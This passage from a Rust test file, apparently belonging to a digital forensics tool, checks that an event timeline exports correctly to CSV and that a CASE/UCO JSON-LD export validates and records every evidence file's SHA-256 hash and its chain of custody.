    assert!(events.len() > 10, "{}", events.len());
    assert_eq!(rows.len(), events.len());
    assert_eq!(
        csv.lines().count(),
        events.len() + 1,
        "a header row, then one per event"
    );
    assert!(
        csv.starts_with(
            "message,datetime,timestamp_desc,timestamp,time_ns,source,kind,evidence,uncertainty_s,detail\n"
        )
    );
    for (e, row) in events.iter().zip(&rows) {
        assert_eq!(row["message"], e["description"]);
        assert_eq!(row["time_ns"], e["time_ns"]);
        let t = chrono::DateTime::parse_from_rfc3339(row["datetime"].as_str().unwrap()).unwrap();
        assert_eq!(Some(t.timestamp_nanos_opt().unwrap()), e["time_ns"].as_i64(), "{row}");
        assert!(row["datetime"].as_str().unwrap().ends_with("+00:00"), "{row}");
        assert_ne!(row["timestamp_desc"], "Event Time", "{row}");
    }
}

/// The CASE/UCO export of the fixture bundle conforms to CASE 1.5.0 (`case_validate`, PyPI
/// case-utils, installed by .ci/run).
#[test]
fn case_export_conforms_to_case_1_5() {
    let b = bundle(&members());
    let r = open(&b);
    let doc = forensic_analysis::case::case_document(&r, "fixture.zip");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("fixture.jsonld");
    std::fs::write(&path, serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
    let o = std::process::Command::new("case_validate").arg(&path).output().unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{out}{}", String::from_utf8_lossy(&o.stderr));
    assert!(out.contains("Conforms: True"), "{out}");
    let graph = doc["@graph"].as_array().unwrap();
    let m = r.manifest.as_ref().unwrap();
    let hashes: Vec<&str> = graph
        .iter()
        .filter(|n| n["@type"] == "observable:File")
        .filter_map(|n| n["core:hasFacet"][1]["observable:hash"][0]["types:hashValue"]["@value"].as_str())
        .collect();
    for x in &m.members {
        assert!(hashes.contains(&x.sha256.hex().as_str()), "{}", x.name);
    }
    assert_eq!(hashes.len(), m.members.len() + 1, "every member and manifest.cbor");
    let records = graph
        .iter()
        .filter(|n| n["@type"] == "investigation:ProvenanceRecord")
        .count();
    assert_eq!(records, r.custody.len());
}
